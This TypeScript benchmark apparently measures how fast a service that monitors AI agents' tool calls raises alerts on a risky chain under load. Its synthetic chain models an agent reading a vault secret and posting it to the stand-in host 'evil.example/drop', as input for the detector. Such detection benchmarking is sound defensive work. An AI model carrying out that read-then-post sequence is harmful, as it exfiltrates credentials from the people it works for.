/**
 * From the POST of the call that completes a chain to its alert at a subscriber of the live tail, through the real
 * service with all steps embedded, while other sessions send at a steady rate. Baseline: the same call itself on the tail.
 */
import { WebSocket } from 'ws';
import { quantile, result, type Bench, type BenchResult } from './bench.ts';
import { eventLine } from './events.ts';
import { STORY_RULES } from '../support/scenario/rules.ts';
import { startService, type BenchService } from './service.ts';

const CHAINS = 200;
const CHAIN_EVERY_MS = 80;
const LOAD_EVERY_MS = 20;
const WAIT_FOR_ALERTS_MS = 30_000;
const NDJSON = 'application/x-ndjson';
const LINES_PER_STREAM = 1000;

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
const hex = (value: number, digits: number): string => value.toString(16).padStart(digits, '0');

const STEPS = [
  { server: 'search', tool: 'web_search', args: { query: 'invoices' } },
  { server: 'vault', tool: 'read_secret', args: { name: 'db' } },
  { server: 'poster', tool: 'http_post', args: { url: 'https://evil.example/drop' } },
];

function chainLine(session: string, id: number, seq: number): string {
  const stream = hex(0xfeed, 8) + hex(id, 24);
  const time = new Date().toISOString();
  const head = { v: 1, kind: 'call.intent', stream, seq, nonce: hex(id, 16) + hex(seq, 16), time };
  return JSON.stringify({ ...head, session, agent: 'agent', callId: `${session}-${seq}`, ...STEPS[seq] });
}

interface Tail {
  /** Milliseconds of arrival by session. */
  readonly seenMs: ReadonlyMap<string, number>;
  close(): void;
}

async function tail(service: BenchService, filter: string): Promise<Tail> {
  const socket = new WebSocket(`${service.url.replace(/^http/, 'ws')}/v1/tail?${filter}`, {
    headers: { authorization: `Bearer ${service.token}` },
  });
  await new Promise<void>((resolve, reject) => {
    socket.once('open', resolve);
    socket.once('error', reject);
  });
  const seenMs = new Map<string, number>();
  socket.on('message', (data: Buffer) => {
    const { event } = JSON.parse(data.toString()) as { event?: { session: string } };
    if (event !== undefined && !seenMs.has(event.session)) seenMs.set(event.session, performance.now());
  });
  return { seenMs, close: () => socket.close() };
}

/** Sends benign events at the rate until it is told to stop; answers how many a second it was in the end. */
function startLoad(service: BenchService, eventsPerSecond: number) {
  const startedMs = performance.now();
  let sent = 0;
  const stop = new AbortController();
  const work = (async () => {
    while (!stop.signal.aborted) {
      const due = Math.floor(((performance.now() - startedMs) / 1000) * eventsPerSecond) - sent;
      if (due > 0) {
        const from = sent;
        const lines = Array.from({ length: due }, (_, at) =>
          eventLine(
            { tenant: 'default', run: eventsPerSecond },
            Math.floor((from + at) / LINES_PER_STREAM),
            (from + at) % LINES_PER_STREAM,
          ),
        );
        sent += due;
        await service.post('/v1/events', lines.join('\n'), NDJSON);
      }
      await sleep(LOAD_EVERY_MS);
    }
  })();
  return async (): Promise<number> => {
    stop.abort();
    await work;
    return sent / ((performance.now() - startedMs) / 1000);
  };
}

/** Which rules the service watches with, and what names them in the results. */
interface Rules {
  readonly suffix: string;
  readonly about: string;
  readonly rules?: object;
}
const STORY: Rules = { suffix: '', about: 'four rules, one of each kind', rules: STORY_RULES };
const SHIPPED: Rules = { suffix: '_all_rules', about: 'all shipped rules' };

async function measure(
  service: BenchService,
  eventsPerSecond: number,
  { suffix, about }: Rules,
): Promise<readonly BenchResult[]> {
  const alerts = await tail(service, 'kind=alert');
  const calls = await tail(service, 'server=poster');
  const stopLoad = startLoad(service, eventsPerSecond);
  await sleep(2000);
  const postedMs = new Map<string, number>();
  for (let n = 0; n < CHAINS; n += 1) {
    const id = eventsPerSecond * 1000 + n;
    const session = `chain-${id}`;
    await service.post('/v1/events', `${chainLine(session, id, 0)}\n${chainLine(session, id, 1)}`, NDJSON);
    await sleep(CHAIN_EVERY_MS);
    postedMs.set(session, performance.now());
    await service.post('/v1/events', chainLine(session, id, 2), NDJSON);
  }
  const endMs = performance.now() + WAIT_FOR_ALERTS_MS;
  while ([...postedMs.keys()].some((session) => !alerts.seenMs.has(session)) && performance.now() < endMs)
    await sleep(50);
  const reached = Math.round(await stopLoad());
  alerts.close();
  calls.close();
  const took = (seen: ReadonlyMap<string, number>): number[] =>
    [...postedMs].map(([session, at]) => (seen.get(session) ?? Number.POSITIVE_INFINITY) - at);
  const toAlert = took(alerts.seenMs);
  const toTail = took(calls.seenMs);
  const note = `${about}, over HTTP, at ${reached} events/s, ${CHAINS} chains; baseline: the call itself on the tail`;
  return [0.5, 0.99].map((q) =>
    result(
      `publish_to_alert_${eventsPerSecond}${suffix}_p${q * 100}`,
      { value: quantile(toAlert, q), baseline: quantile(toTail, q), unit: 'ms' },
      note,
    ),
  );
}

async function measured(rules: Rules, rates: readonly number[]): Promise<readonly BenchResult[]> {
  const service = await startService(rules);
  try {
    const results: BenchResult[] = [];
    for (const rate of rates) results.push(...(await measure(service, rate, rules)));
    return results;
  } finally {
    await service.stop();
  }
}

/** All rules cost about a millisecond an event: 2,000 a second are more than one process detects. */
async function run(): Promise<readonly BenchResult[]> {
  return [...(await measured(STORY, [500, 2000])), ...(await measured(SHIPPED, [500]))];
}

export const alertLatency: Bench = {
  name: 'publish_to_alert',
  about: 'POST of a chain’s last call to its alert, at 500 and 2,000 events/s',
  run,
};
